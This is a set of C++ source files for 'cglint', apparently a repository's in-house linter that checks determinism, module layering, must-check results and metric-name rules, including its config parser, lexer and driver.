        return fail("deps expects: deps <module>: [dep ...]");
      }
      const std::string module = words[1].substr(0, words[1].size() - 1);
      if (module.empty()) return fail("deps: empty module name");
      auto [it, inserted] = config.deps_.try_emplace(module);
      if (!inserted) return fail("duplicate deps for module " + module);
      it->second.insert(words.begin() + 2, words.end());
    } else if (keyword == "open") {
      if (words.size() < 2) return fail("open expects at least one module");
      config.open_.insert(words.begin() + 1, words.end());
    } else if (keyword == "apps") {
      if (words.size() < 2) return fail("apps expects at least one module");
      config.apps_.insert(words.begin() + 1, words.end());
    } else if (keyword == "mustcheck") {
      if (words.size() < 2) return fail("mustcheck expects at least one type");
      config.mustcheck_types_.insert(words.begin() + 1, words.end());
    } else if (keyword == "metricwrap") {
      if (words.size() < 2) {
        return fail("metricwrap expects at least one function name");
      }
      config.metric_wrappers_.insert(words.begin() + 1, words.end());
    } else if (keyword == "allow") {
      if (words.size() < 4 || words[2] != "under") {
        return fail("allow expects: allow <RULE> under <prefix> [...]");
      }
      auto& prefixes = config.allow_prefixes_[words[1]];
      prefixes.insert(prefixes.end(), words.begin() + 3, words.end());
    } else if (keyword == "restrict") {
      if (words.size() < 3) {
        return fail("restrict expects: restrict <RULE> <module> [...]");
      }
      config.restrict_[words[1]].insert(words.begin() + 2, words.end());
    } else {
      return fail("unknown keyword '" + keyword + "'");
    }
  }
  // Longest prefix wins when overrides nest.
  std::stable_sort(config.path_overrides_.begin(),
                   config.path_overrides_.end(),
                   [](const auto& a, const auto& b) {
                     return a.first.size() > b.first.size();
                   });
  // Every dep must itself be declared, and the declared graph must be a DAG;
  // a cycle here is exactly the regression L1 exists to prevent.
  for (const auto& [module, deps] : config.deps_) {
    for (const auto& dep : deps) {
      if (config.deps_.count(dep) == 0 && config.open_.count(dep) == 0) {
        line_no = 0;
        return fail("module '" + module + "' depends on undeclared '" + dep +
                    "'");
      }
    }
  }
  // `apps` re-labels layering findings; the module still needs its deps (or
  // an `open` escape hatch) declared, otherwise nothing is being relabeled.
  for (const auto& module : config.apps_) {
    if (config.deps_.count(module) == 0 && config.open_.count(module) == 0) {
      line_no = 0;
      return fail("apps module '" + module +
                  "' has no deps line — declare its allowed includes");
    }
  }
  std::map<std::string, int> state;  // 0 unvisited, 1 in-stack, 2 done
  std::function<std::optional<std::string>(const std::string&)> visit =
      [&](const std::string& module) -> std::optional<std::string> {
    state[module] = 1;
    const auto it = config.deps_.find(module);
    if (it != config.deps_.end()) {
      for (const auto& dep : it->second) {
        const int s = state[dep];
        if (s == 1) return module + " -> " + dep;
        if (s == 0) {
          if (auto cycle = visit(dep)) return module + " -> " + *cycle;
        }
      }
    }
    state[module] = 2;
    return std::nullopt;
  };
  for (const auto& [module, deps] : config.deps_) {
    if (state[module] == 0) {
      if (auto cycle = visit(module)) {
        line_no = 0;
        return fail("layering graph has a cycle: " + *cycle);
      }
    }
  }
  return config;
}

std::optional<Config> Config::load(const std::string& file,
                                   std::string* error) {
  std::ifstream in(file);
  if (!in) {
    if (error != nullptr) *error = "cannot open config file: " + file;
    return std::nullopt;
  }
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return parse(buffer.str(), error);
}

std::string Config::module_of(std::string_view path) const {
  for (const auto& [prefix, module] : path_overrides_) {
    if (path.substr(0, prefix.size()) == prefix) return module;
  }
  return default_module(path);
}

bool Config::edge_allowed(const std::string& from,
                          const std::string& to) const {
  if (from == to) return true;
  if (open_.count(from) != 0) return true;
  const auto it = deps_.find(from);
  return it != deps_.end() && it->second.count(to) != 0;
}

bool Config::module_declared(const std::string& module) const {
  return deps_.count(module) != 0 || open_.count(module) != 0;
}

bool Config::rule_allowlisted(std::string_view rule,
                              std::string_view path) const {
  const auto it = allow_prefixes_.find(std::string(rule));
  if (it == allow_prefixes_.end()) return false;
  for (const auto& prefix : it->second) {
    if (path.substr(0, prefix.size()) == prefix) return true;
  }
  return false;
}

bool Config::rule_applies(std::string_view rule,
                          const std::string& module) const {
  const auto it = restrict_.find(std::string(rule));
  if (it == restrict_.end()) return true;
  return it->second.count(module) != 0;
}

}  // namespace cg::lint
