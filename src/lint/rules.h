// The cglint rule set and the suppression grammar.
//
// Rule families (see DESIGN.md §10 for the full catalogue and rationale):
//   D1  wall-clock time source outside allowlisted diagnostic paths
//   D2  nondeterministic randomness (rand/random_device/std engines)
//   D3  unordered-container iteration hazard in output-feeding modules
//   D4  mutable static state (globals, function-local statics, thread_local)
//   L1  layering: include crosses a module edge not declared in the DAG
//   L2  layering, application tier: same check as L1 but reported under its
//       own id for modules named on an `apps` line (tests/tools/bench)
//   W1  std::ofstream written without a stream-health check (durable-output
//       modules only, via `restrict W1 ...`)
//   W2  must-check result discarded (IoStatus/NavigationResult-class types
//       per `mustcheck` config), and must-check types missing [[nodiscard]]
//   E1  switch over a registered taxonomy enum (lint/enums.txt) with a bare
//       default: or missing enumerators
//   M1  metric name literal not present in lint/metrics.txt
//   S1  malformed suppression annotation
//   S2  suppression without a reason string
//
// Suppressions are inline `allow(RULE[,RULE]) — reason` comments, either
// trailing the offending line or alone on the line above it; DESIGN.md §10
// spells out the grammar. S1/S2 are not themselves suppressible.
#pragma once

#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "lint/config.h"
#include "lint/index.h"
#include "lint/lexer.h"

namespace cg::lint {

struct Violation {
  std::string file;
  int line = 0;
  std::string rule;
  std::string message;

  bool operator==(const Violation&) const = default;
};

struct Suppression {
  int comment_line = 0;  // where the annotation sits (for S2 / census)
  int target_line = 0;   // the code line it suppresses
  std::vector<std::string> rules;
  std::string reason;
  bool used = false;
};

/// Extract every suppression annotation from the comment tokens. Malformed
/// annotations and missing reasons are reported straight into `errors`
/// (rules S1/S2) — a broken suppression must fail the build, not silently
/// stop suppressing.
std::vector<Suppression> parse_suppressions(const std::vector<Token>& tokens,
                                            const std::string& file,
                                            std::vector<Violation>* errors);

/// Run rules D1-D4, W1, and L1 over one lexed file. `path` is repo-relative; it
/// decides the module (layering) and rule allowlists. Suppressions are NOT
/// applied here — the linter driver matches them so it can report a census.
std::vector<Violation> run_rules(const Config& config, const std::string& path,
                                 const std::vector<Token>& tokens);

/// Run the cross-file semantic rules (W2 must-check discard, E1 taxonomy
/// exhaustiveness, M1 metrics-name registry) over one lexed file against the
/// whole-tree symbol index. Registry entries that vouched for a metric call
/// site are inserted into *used_metric_entries (may be null) so the driver
/// can report unused registry entries in the census.
std::vector<Violation> run_semantic_rules(
    const Config& config, const SymbolIndex& index, const std::string& path,
    const std::vector<Token>& tokens,
    std::set<std::string>* used_metric_entries);

}  // namespace cg::lint
