// cglint configuration: the declared module DAG plus per-rule scoping.
//
// The checked-in `lint/layering.txt` is the single source of truth for which
// module may include which. Grammar (one statement per line, `#` comments):
//
//   path <repo-relative-prefix> <module>     # map files to a module
//   deps <module>: [dep ...]                 # complete allowed include list
//   open <module> [module ...]               # exempt from L1 (apps, tests)
//   allow <RULE> under <path-prefix> [...]   # rule allowlisted below prefix
//   restrict <RULE> <module> [module ...]    # rule applies only in these
//
// A file's module defaults to its first path component (bench/, tests/, ...)
// or, under src/, the second (src/obs/... → obs). `path` overrides win and
// are matched longest-prefix-first, which is how report/json.* is carved out
// as the `jsoncore` module the CMake build already links separately.
// The declared `deps` graph must be acyclic; load() rejects cyclic configs.
#pragma once

#include <map>
#include <optional>
#include <set>
#include <string>
#include <string_view>
#include <vector>

namespace cg::lint {

class Config {
 public:
  /// Parse from text. On grammar errors or a cyclic deps graph returns
  /// nullopt and sets *error to a "line N: ..." message.
  static std::optional<Config> parse(std::string_view text,
                                     std::string* error);
  /// Parse from a file on disk.
  static std::optional<Config> load(const std::string& file,
                                    std::string* error);

  /// Module owning a repo-relative path ("src/obs/trace.cpp" → "obs").
  std::string module_of(std::string_view path) const;

  /// True if `from` may include from `to` (same module, open module, or a
  /// declared edge).
  bool edge_allowed(const std::string& from, const std::string& to) const;

  /// True if `module` has a `deps` line or is `open` (i.e. L1 knows it).
  bool module_declared(const std::string& module) const;

  /// True if `rule` is switched off for `path` by an `allow ... under` line.
  bool rule_allowlisted(std::string_view rule, std::string_view path) const;

  /// True if `rule` applies to `module`: unrestricted rules apply
  /// everywhere, `restrict`-ed ones only to the listed modules.
  bool rule_applies(std::string_view rule, const std::string& module) const;

  const std::map<std::string, std::set<std::string>>& deps() const {
    return deps_;
  }
  const std::set<std::string>& open_modules() const { return open_; }

 private:
  std::vector<std::pair<std::string, std::string>> path_overrides_;
  std::map<std::string, std::set<std::string>> deps_;
  std::set<std::string> open_;
  std::map<std::string, std::vector<std::string>> allow_prefixes_;
  std::map<std::string, std::set<std::string>> restrict_;
};

}  // namespace cg::lint
