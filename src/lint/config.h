// cglint configuration: the declared module DAG plus per-rule scoping.
//
// The checked-in `lint/layering.txt` is the single source of truth for which
// module may include which. Grammar (one statement per line, `#` comments):
//
//   path <repo-relative-prefix> <module>     # map files to a module
//   deps <module>: [dep ...]                 # complete allowed include list
//   open <module> [module ...]               # exempt from L1 (apps, tests)
//   apps <module> [module ...]               # layering violations report as
//                                            # L2, not L1 (tests/tools/bench)
//   allow <RULE> under <path-prefix> [...]   # rule allowlisted below prefix
//   restrict <RULE> <module> [module ...]    # rule applies only in these
//   mustcheck <Type> [Type ...]              # W2: results of these types
//                                            # must not be discarded
//   metricwrap <fn> [fn ...]                 # M1: wrapper functions whose
//                                            # string-literal arg is a
//                                            # metric name
//
// A file's module defaults to its first path component (bench/, tests/, ...)
// or, under src/, the second (src/obs/... → obs). `path` overrides win and
// are matched longest-prefix-first, which is how report/json.* is carved out
// as the `jsoncore` module the CMake build already links separately.
// The declared `deps` graph must be acyclic; load() rejects cyclic configs.
//
// The cross-file rules E1 and M1 additionally consult two checked-in name
// registries (lint/enums.txt, lint/metrics.txt) attached via
// set_enum_registry()/set_metric_registry(); without a registry the rule is
// inert, so single-file fixture runs stay cheap and precise.
#pragma once

#include <map>
#include <optional>
#include <set>
#include <string>
#include <string_view>
#include <vector>

namespace cg::lint {

/// A checked-in name registry: one entry per line, `#` comments, blank lines
/// ignored. A trailing `*` makes the entry a prefix wildcard ("io.faults.*"
/// covers every name beginning with "io.faults.").
class NameRegistry {
 public:
  static std::optional<NameRegistry> parse(std::string_view text,
                                           std::string* error);
  static std::optional<NameRegistry> load(const std::string& file,
                                          std::string* error);

  bool empty() const { return entries_.empty(); }

  /// True if `name` is an exact entry or covered by a wildcard. On success
  /// *matched_entry (if given) receives the registry entry that matched,
  /// spelled as checked in (wildcards keep their trailing `*`).
  bool matches(std::string_view name, std::string* matched_entry) const;

  /// True if a name *prefix* (a literal the code completes dynamically, e.g.
  /// concat("io.faults.", ...)) is covered. Only a wildcard whose stem is a
  /// prefix of `prefix` can vouch for every completion.
  bool matches_prefix(std::string_view prefix,
                      std::string* matched_entry) const;

  /// All entries in sorted order, wildcards spelled with their `*`.
  const std::vector<std::string>& entries() const { return entries_; }

 private:
  std::set<std::string> exact_;
  std::vector<std::string> wildcard_stems_;
  std::vector<std::string> entries_;
};

class Config {
 public:
  /// Parse from text. On grammar errors or a cyclic deps graph returns
  /// nullopt and sets *error to a "line N: ..." message.
  static std::optional<Config> parse(std::string_view text,
                                     std::string* error);
  /// Parse from a file on disk.
  static std::optional<Config> load(const std::string& file,
                                    std::string* error);

  /// Module owning a repo-relative path ("src/obs/trace.cpp" → "obs").
  std::string module_of(std::string_view path) const;

  /// True if `from` may include from `to` (same module, open module, or a
  /// declared edge).
  bool edge_allowed(const std::string& from, const std::string& to) const;

  /// True if `module` has a `deps` line or is `open` (i.e. L1 knows it).
  bool module_declared(const std::string& module) const;

  /// True if `rule` is switched off for `path` by an `allow ... under` line.
  bool rule_allowlisted(std::string_view rule, std::string_view path) const;

  /// True if `rule` applies to `module`: unrestricted rules apply
  /// everywhere, `restrict`-ed ones only to the listed modules.
  bool rule_applies(std::string_view rule, const std::string& module) const;

  /// True if `module` is an application-tier module (`apps` line): its
  /// layering findings carry rule id L2 instead of L1.
  bool app_module(const std::string& module) const {
    return apps_.count(module) != 0;
  }

  /// Types whose returned values must not be discarded (rule W2).
  const std::set<std::string>& mustcheck_types() const {
    return mustcheck_types_;
  }

  /// Functions whose first string-literal argument is a metric name (M1).
  const std::set<std::string>& metric_wrappers() const {
    return metric_wrappers_;
  }

  // Registries for the cross-file rules. Without one, E1/M1 are inert.
  void set_enum_registry(NameRegistry registry) {
    enum_registry_ = std::move(registry);
  }
  void set_metric_registry(NameRegistry registry) {
    metric_registry_ = std::move(registry);
  }
  const NameRegistry* enum_registry() const {
    return enum_registry_ ? &*enum_registry_ : nullptr;
  }
  const NameRegistry* metric_registry() const {
    return metric_registry_ ? &*metric_registry_ : nullptr;
  }

  const std::map<std::string, std::set<std::string>>& deps() const {
    return deps_;
  }
  const std::set<std::string>& open_modules() const { return open_; }

 private:
  std::vector<std::pair<std::string, std::string>> path_overrides_;
  std::map<std::string, std::set<std::string>> deps_;
  std::set<std::string> open_;
  std::set<std::string> apps_;
  std::map<std::string, std::vector<std::string>> allow_prefixes_;
  std::map<std::string, std::set<std::string>> restrict_;
  std::set<std::string> mustcheck_types_;
  std::set<std::string> metric_wrappers_;
  std::optional<NameRegistry> enum_registry_;
  std::optional<NameRegistry> metric_registry_;
};

}  // namespace cg::lint
