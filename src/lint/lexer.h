// Comment/string-aware C++ token scanner for cglint.
//
// This is not a compiler front end: it is a single-pass lexer that is exact
// about the things static determinism rules care about — what is code, what
// is a comment, what is inside a string (including raw strings), and which
// line everything is on — and deliberately naive about everything else.
// Tokens are string_views into the caller's source buffer; the buffer must
// outlive the token vector.
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace cg::lint {

enum class TokenKind {
  kIdentifier,  // identifiers and keywords
  kNumber,      // numeric literals (incl. digit separators, exponents)
  kString,      // "...", R"(...)", '...' — prefix and quotes included
  kPunct,       // operators/punctuation; :: -> ## are single tokens
  kComment,     // // or /* */ — delimiters included
  kDirective,   // a whole preprocessor directive (sans trailing comment)
};

struct Token {
  TokenKind kind;
  std::string_view text;
  int line = 0;  // 1-based line of the token's first character
};

/// Lex an entire translation unit. Never fails: unterminated strings stop at
/// end of line, unterminated comments/raw strings at end of file.
std::vector<Token> lex(std::string_view source);

/// The target of an #include directive token: `#include "a/b.h"` →
/// {path="a/b.h", quoted=true}. nullopt for other directives.
struct IncludeTarget {
  std::string path;
  bool quoted = false;
};
std::optional<IncludeTarget> parse_include(const Token& directive);

}  // namespace cg::lint
