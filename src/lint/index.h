// Pass 1 of cglint v2: the cross-file symbol index.
//
// The token rules (D1-D4, W1, L1) are single-file by construction; the v2
// semantic rules need whole-tree facts — which enumerators an `enum class`
// declares, which functions and methods return a must-check type, and
// whether the must-check types themselves carry [[nodiscard]]. index_file()
// harvests those facts from one lexed file; the linter driver runs it over
// every file first, then runs the semantic rules (rules W2/E1/M1) against
// the merged index.
//
// This is still the lexer's view of C++, not a compiler's: callables are
// recognized by the declaration shape `Type name (` / `Type Class::name (`
// and receivers by `Class [*&>] var` declarations, which is exact for the
// house style this repo enforces and deliberately blind to token soup it
// does not contain (macros generating signatures, pointer-to-member calls).
#pragma once

#include <map>
#include <set>
#include <string>
#include <vector>

#include "lint/config.h"
#include "lint/lexer.h"

namespace cg::lint {

/// Where a must-check type is defined and whether the definition carries
/// [[nodiscard]] (rule W2 flags the definition site when it does not).
struct TypeDef {
  std::string file;
  int line = 0;
  bool nodiscard = false;
};

struct SymbolIndex {
  /// enum class Name → enumerators in declaration order.
  std::map<std::string, std::vector<std::string>> enums;
  /// Namespace-scope callables returning a must-check type.
  std::set<std::string> mustcheck_functions;
  /// Class → methods returning a must-check type. In-class declarations and
  /// out-of-line `Type Class::method(` definitions both register.
  std::map<std::string, std::set<std::string>> mustcheck_methods;
  /// Definition sites of the must-check types themselves.
  std::map<std::string, TypeDef> mustcheck_types;
  /// Member-variable receivers: `Type name_;` declared at class scope, so a
  /// call through `name_` in another file still resolves its class. Members
  /// are recognized by the house trailing-underscore style; a name declared
  /// with two different types across the tree maps to "" (ambiguous — W2
  /// then stays silent rather than guessing).
  std::map<std::string, std::string> member_receivers;
};

/// Harvest symbols from one lexed file into the shared index. `path` is the
/// repo-relative path recorded in TypeDef entries.
void index_file(const Config& config, const std::string& path,
                const std::vector<Token>& tokens, SymbolIndex* index);

}  // namespace cg::lint
