#include "lint/linter.h"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace cg::lint {
namespace {

void merge_into(LintReport& total, LintReport&& part) {
  total.violations.insert(total.violations.end(),
                          std::make_move_iterator(part.violations.begin()),
                          std::make_move_iterator(part.violations.end()));
  total.suppressed.insert(total.suppressed.end(),
                          std::make_move_iterator(part.suppressed.begin()),
                          std::make_move_iterator(part.suppressed.end()));
  for (const auto& [rule, count] : part.suppression_census) {
    total.suppression_census[rule] += count;
  }
  total.unused_suppressions.insert(
      total.unused_suppressions.end(),
      std::make_move_iterator(part.unused_suppressions.begin()),
      std::make_move_iterator(part.unused_suppressions.end()));
  total.files_scanned += part.files_scanned;
  total.bytes_scanned += part.bytes_scanned;
}

bool lintable_file(const std::filesystem::path& path) {
  const auto ext = path.extension().string();
  return ext == ".h" || ext == ".hpp" || ext == ".cc" || ext == ".cpp";
}

bool skip_directory(const std::filesystem::path& path) {
  const auto name = path.filename().string();
  return name.empty() || name.front() == '.' ||
         name.rfind("build", 0) == 0;
}

}  // namespace

LintReport lint_source(const Config& config, const std::string& path,
                       std::string_view source) {
  LintReport report;
  report.files_scanned = 1;
  report.bytes_scanned = source.size();

  const std::vector<Token> tokens = lex(source);
  auto suppressions = parse_suppressions(tokens, path, &report.violations);
  std::vector<Violation> raw = run_rules(config, path, tokens);

  for (Violation& violation : raw) {
    Suppression* match = nullptr;
    for (Suppression& suppression : suppressions) {
      if (suppression.target_line != violation.line) continue;
      if (std::find(suppression.rules.begin(), suppression.rules.end(),
                    violation.rule) == suppression.rules.end()) {
        continue;
      }
      match = &suppression;
      break;
    }
    if (match != nullptr) {
      match->used = true;
      ++report.suppression_census[violation.rule];
      report.suppressed.push_back({std::move(violation), match->reason});
    } else {
      report.violations.push_back(std::move(violation));
    }
  }
  for (const Suppression& suppression : suppressions) {
    if (suppression.used) continue;
    std::string rules;
    for (const auto& rule : suppression.rules) {
      if (!rules.empty()) rules += ',';
      rules += rule;
    }
    report.unused_suppressions.push_back(
        {path, suppression.comment_line, "S3",
         "suppression allow(" + rules + ") matched no violation"});
  }
  return report;
}

LintReport lint_paths(const Config& config,
                      const std::vector<std::string>& roots) {
  namespace fs = std::filesystem;
  std::vector<std::string> files;
  for (const std::string& root : roots) {
    const fs::path root_path(root);
    std::error_code ec;
    if (fs::is_regular_file(root_path, ec)) {
      files.push_back(root_path.generic_string());
      continue;
    }
    fs::recursive_directory_iterator it(
        root_path, fs::directory_options::skip_permission_denied, ec);
    if (ec) continue;
    for (const auto& entry : it) {
      if (entry.is_directory(ec)) {
        if (skip_directory(entry.path())) it.disable_recursion_pending();
        continue;
      }
      if (entry.is_regular_file(ec) && lintable_file(entry.path())) {
        files.push_back(entry.path().generic_string());
      }
    }
  }
  std::sort(files.begin(), files.end());
  files.erase(std::unique(files.begin(), files.end()), files.end());

  LintReport total;
  for (const std::string& file : files) {
    std::ifstream in(file, std::ios::binary);
    if (!in) {
      total.violations.push_back({file, 0, "IO", "cannot read file"});
      continue;
    }
    std::ostringstream buffer;
    buffer << in.rdbuf();
    const std::string source = buffer.str();
    // Normalize "./src/x" → "src/x" so module mapping is stable however the
    // root was spelled.
    std::string rel = file;
    while (rel.rfind("./", 0) == 0) rel.erase(0, 2);
    merge_into(total, lint_source(config, rel, source));
  }
  std::stable_sort(total.violations.begin(), total.violations.end(),
                   [](const Violation& a, const Violation& b) {
                     if (a.file != b.file) return a.file < b.file;
                     if (a.line != b.line) return a.line < b.line;
                     return a.rule < b.rule;
                   });
  return total;
}

std::string format_report(const LintReport& report, bool census) {
  std::ostringstream out;
  for (const Violation& violation : report.violations) {
    out << violation.file << ':' << violation.line << ": [" << violation.rule
        << "] " << violation.message << '\n';
  }
  if (census) {
    out << "suppression census:";
    if (report.suppression_census.empty()) {
      out << " none\n";
    } else {
      out << '\n';
      for (const auto& [rule, count] : report.suppression_census) {
        out << "  " << rule << ": " << count << '\n';
      }
      for (const auto& entry : report.suppressed) {
        out << "  " << entry.violation.file << ':' << entry.violation.line
            << " allow(" << entry.violation.rule << ") — " << entry.reason
            << '\n';
      }
    }
    for (const Violation& unused : report.unused_suppressions) {
      out << "note: " << unused.file << ':' << unused.line << ": "
          << unused.message << '\n';
    }
  }
  out << "cglint: " << report.files_scanned << " files, "
      << report.bytes_scanned << " bytes, " << report.violations.size()
      << " violation(s), " << report.suppressed.size() << " suppressed\n";
  return out.str();
}

}  // namespace cg::lint
