#include "lint/linter.h"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "lint/index.h"

namespace cg::lint {
namespace {

bool lintable_file(const std::filesystem::path& path) {
  const auto ext = path.extension().string();
  return ext == ".h" || ext == ".hpp" || ext == ".cc" || ext == ".cpp";
}

bool skip_directory(const std::filesystem::path& path) {
  const auto name = path.filename().string();
  return name.empty() || name.front() == '.' ||
         name.rfind("build", 0) == 0;
}

/// Match one file's raw violations against its suppressions and fold the
/// outcome into the report.
void apply_suppressions(const std::string& path,
                        std::vector<Suppression>& suppressions,
                        std::vector<Violation>& raw, LintReport& report) {
  for (Violation& violation : raw) {
    Suppression* match = nullptr;
    for (Suppression& suppression : suppressions) {
      if (suppression.target_line != violation.line) continue;
      if (std::find(suppression.rules.begin(), suppression.rules.end(),
                    violation.rule) == suppression.rules.end()) {
        continue;
      }
      match = &suppression;
      break;
    }
    if (match != nullptr) {
      match->used = true;
      ++report.suppression_census[violation.rule];
      report.suppressed.push_back({std::move(violation), match->reason});
    } else {
      report.violations.push_back(std::move(violation));
    }
  }
  for (const Suppression& suppression : suppressions) {
    if (suppression.used) continue;
    std::string rules;
    for (const auto& rule : suppression.rules) {
      if (!rules.empty()) rules += ',';
      rules += rule;
    }
    report.unused_suppressions.push_back(
        {path, suppression.comment_line, "S3",
         "suppression allow(" + rules + ") matched no violation"});
  }
}

}  // namespace

LintReport lint_sources(const Config& config,
                        std::vector<SourceFile> sources) {
  std::sort(sources.begin(), sources.end(),
            [](const SourceFile& a, const SourceFile& b) {
              return a.path < b.path;
            });

  LintReport report;

  // Pass 1: lex everything and build the cross-file symbol index. Token
  // string_views point into the SourceFile buffers, which outlive pass 2.
  SymbolIndex index;
  std::vector<std::vector<Token>> streams;
  streams.reserve(sources.size());
  for (const SourceFile& file : sources) {
    streams.push_back(lex(file.source));
    index_file(config, file.path, streams.back(), &index);
    ++report.files_scanned;
    report.bytes_scanned += file.source.size();
  }

  // Pass 2: token rules + semantic rules per file, then suppressions.
  std::set<std::string> used_metric_entries;
  for (std::size_t i = 0; i < sources.size(); ++i) {
    const std::string& path = sources[i].path;
    const std::vector<Token>& tokens = streams[i];
    auto suppressions = parse_suppressions(tokens, path, &report.violations);
    std::vector<Violation> raw = run_rules(config, path, tokens);
    std::vector<Violation> semantic =
        run_semantic_rules(config, index, path, tokens, &used_metric_entries);
    raw.insert(raw.end(), std::make_move_iterator(semantic.begin()),
               std::make_move_iterator(semantic.end()));
    std::stable_sort(raw.begin(), raw.end(),
                     [](const Violation& a, const Violation& b) {
                       if (a.line != b.line) return a.line < b.line;
                       return a.rule < b.rule;
                     });
    apply_suppressions(path, suppressions, raw, report);
  }

  if (config.metric_registry() != nullptr) {
    for (const std::string& entry : config.metric_registry()->entries()) {
      if (used_metric_entries.count(entry) == 0) {
        report.unused_metric_entries.push_back(entry);
      }
    }
  }

  std::stable_sort(report.violations.begin(), report.violations.end(),
                   [](const Violation& a, const Violation& b) {
                     if (a.file != b.file) return a.file < b.file;
                     if (a.line != b.line) return a.line < b.line;
                     return a.rule < b.rule;
                   });
  return report;
}

LintReport lint_source(const Config& config, const std::string& path,
                       std::string_view source) {
  std::vector<SourceFile> sources;
  sources.push_back({path, std::string(source)});
  return lint_sources(config, std::move(sources));
}

LintReport lint_paths(const Config& config,
                      const std::vector<std::string>& roots) {
  namespace fs = std::filesystem;
  std::vector<std::string> files;
  for (const std::string& root : roots) {
    const fs::path root_path(root);
    std::error_code ec;
    if (fs::is_regular_file(root_path, ec)) {
      files.push_back(root_path.generic_string());
      continue;
    }
    fs::recursive_directory_iterator it(
        root_path, fs::directory_options::skip_permission_denied, ec);
    if (ec) continue;
    for (const auto& entry : it) {
      if (entry.is_directory(ec)) {
        if (skip_directory(entry.path())) it.disable_recursion_pending();
        continue;
      }
      if (entry.is_regular_file(ec) && lintable_file(entry.path())) {
        files.push_back(entry.path().generic_string());
      }
    }
  }
  std::sort(files.begin(), files.end());
  files.erase(std::unique(files.begin(), files.end()), files.end());

  std::vector<SourceFile> sources;
  sources.reserve(files.size());
  std::vector<Violation> io_errors;
  for (const std::string& file : files) {
    std::ifstream in(file, std::ios::binary);
    if (!in) {
      io_errors.push_back({file, 0, "IO", "cannot read file"});
      continue;
    }
    std::ostringstream buffer;
    buffer << in.rdbuf();
    // Normalize "./src/x" → "src/x" so module mapping is stable however the
    // root was spelled.
    std::string rel = file;
    while (rel.rfind("./", 0) == 0) rel.erase(0, 2);
    sources.push_back({std::move(rel), buffer.str()});
  }

  LintReport report = lint_sources(config, std::move(sources));
  if (!io_errors.empty()) {
    report.violations.insert(report.violations.end(),
                             std::make_move_iterator(io_errors.begin()),
                             std::make_move_iterator(io_errors.end()));
    std::stable_sort(report.violations.begin(), report.violations.end(),
                     [](const Violation& a, const Violation& b) {
                       if (a.file != b.file) return a.file < b.file;
                       if (a.line != b.line) return a.line < b.line;
                       return a.rule < b.rule;
                     });
  }
  return report;
}

// ---- baseline mode -------------------------------------------------------

Baseline Baseline::parse(std::string_view text) {
  Baseline baseline;
  std::istringstream in{std::string(text)};
  std::string line;
  while (std::getline(in, line)) {
    while (!line.empty() && (line.back() == '\r' || line.back() == '\n')) {
      line.pop_back();
    }
    if (line.empty() || line.front() == '#') continue;
    baseline.entries.insert(line);
  }
  return baseline;
}

std::optional<Baseline> Baseline::load(const std::string& file,
                                       std::string* error) {
  std::ifstream in(file);
  if (!in) {
    if (error != nullptr) *error = "cannot open baseline file: " + file;
    return std::nullopt;
  }
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return parse(buffer.str());
}

std::string baseline_key(const Violation& violation) {
  std::string key = violation.file;
  key += '\t';
  key += violation.rule;
  key += '\t';
  key += violation.message;
  return key;
}

std::string write_baseline_text(const LintReport& report) {
  std::vector<std::string> keys;
  keys.reserve(report.violations.size());
  for (const Violation& violation : report.violations) {
    keys.push_back(baseline_key(violation));
  }
  std::sort(keys.begin(), keys.end());
  std::string out =
      "# cglint baseline — known findings excused while a cleanup is in\n"
      "# flight. Regenerate with: cglint --write-baseline <this file> ...\n";
  for (const std::string& key : keys) {
    out += key;
    out += '\n';
  }
  return out;
}

int apply_baseline(LintReport* report, const Baseline& baseline) {
  std::multiset<std::string> remaining = baseline.entries;
  std::vector<Violation> kept;
  kept.reserve(report->violations.size());
  int removed = 0;
  for (Violation& violation : report->violations) {
    const auto it = remaining.find(baseline_key(violation));
    if (it != remaining.end()) {
      remaining.erase(it);
      ++removed;
    } else {
      kept.push_back(std::move(violation));
    }
  }
  report->violations = std::move(kept);
  report->baselined += removed;
  return removed;
}

std::string format_report(const LintReport& report, bool census) {
  std::ostringstream out;
  for (const Violation& violation : report.violations) {
    out << violation.file << ':' << violation.line << ": [" << violation.rule
        << "] " << violation.message << '\n';
  }
  if (census) {
    out << "suppression census:";
    if (report.suppression_census.empty()) {
      out << " none\n";
    } else {
      out << '\n';
      for (const auto& [rule, count] : report.suppression_census) {
        out << "  " << rule << ": " << count << '\n';
      }
      for (const auto& entry : report.suppressed) {
        out << "  " << entry.violation.file << ':' << entry.violation.line
            << " allow(" << entry.violation.rule << ") — " << entry.reason
            << '\n';
      }
    }
    for (const Violation& unused : report.unused_suppressions) {
      out << "note: " << unused.file << ':' << unused.line << ": "
          << unused.message << '\n';
    }
    for (const std::string& entry : report.unused_metric_entries) {
      out << "note: lint/metrics.txt: unused metric entry '" << entry
          << "'\n";
    }
  }
  out << "cglint: " << report.files_scanned << " files, "
      << report.bytes_scanned << " bytes, " << report.violations.size()
      << " violation(s), " << report.suppressed.size() << " suppressed";
  if (report.baselined > 0) out << ", " << report.baselined << " baselined";
  out << '\n';
  return out.str();
}

}  // namespace cg::lint
