// The cglint v2 cross-file rules: W2 (must-check results), E1 (taxonomy
// exhaustiveness), M1 (metrics-name registry). All three consume the pass-1
// SymbolIndex; E1 and M1 additionally consult the checked-in name
// registries attached to the Config (lint/enums.txt, lint/metrics.txt) and
// are inert without them.
#include <algorithm>
#include <cstddef>
#include <map>
#include <optional>
#include <set>
#include <string>

#include "lint/rules.h"

namespace cg::lint {
namespace {

/// Append-style message builder. GCC 12's -Wrestrict false-fires on chained
/// std::string operator+ (PR 105329); building via append keeps -Werror on.
template <typename... Parts>
std::string concat(Parts&&... parts) {
  std::string out;
  (out.append(parts), ...);
  return out;
}

struct Sink {
  const Config* config;
  const std::string* path;
  std::string module;
  std::vector<Violation>* out;

  void add(const std::string& rule, int line, std::string message) const {
    if (config->rule_allowlisted(rule, *path)) return;
    out->push_back({*path, line, rule, std::move(message)});
  }
};

bool next_is(const std::vector<Token>& code, std::size_t i,
             std::string_view text) {
  return i + 1 < code.size() && code[i + 1].text == text;
}

bool is_member_access(const std::vector<Token>& code, std::size_t i) {
  if (i == 0) return false;
  const std::string_view prev = code[i - 1].text;
  return prev == "." || prev == "->" || prev == "::";
}

/// Index of the token matching the `(` at `open`, or npos.
